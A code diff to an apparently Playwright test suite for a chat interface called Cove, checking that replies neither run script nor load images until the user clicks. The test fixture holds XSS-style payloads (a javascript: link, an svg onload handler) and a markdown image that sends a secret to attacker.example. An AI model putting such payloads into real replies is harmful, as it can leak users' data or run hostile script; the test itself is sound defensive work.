@@ -157,6 +157,7 @@ test('nothing in a reply runs script or loads anything until clicked', async ({
       '[click me](javascript:window.__pwned=3)',
       '![diagram](https://attacker.example/secret?k=abc)',
       '<svg onload="window.__pwned=4"><circle r="5"/></svg>',
+      '![plain](http://insecure.example/chart.png)',
     ].join('\n\n'),
   });
   await ask(cove, 'Show me');
@@ -177,6 +178,13 @@ test('nothing in a reply runs script or loads anything until clicked', async ({
   const loaded = cove.page.waitForRequest(/attacker\.example/);
   await placeholder.click();
   await loaded;
+  // That host is not there: the person is told, rather than the button vanishing.
+  await expect(
+    reply.getByRole('status').filter({ hasText: 'Image not loaded' }).first(),
+  ).toContainText('attacker.example did not send an image');
+  // Plain http images are refused by Cove's policy; it says so instead of doing nothing.
+  await reply.getByRole('button', { name: /Load image from insecure\.example/ }).click();
+  await expect(reply.getByText(/Cove loads images only over https/)).toBeVisible();
 });
 
 test('code block buttons: save as a file and insert into the open file', async ({
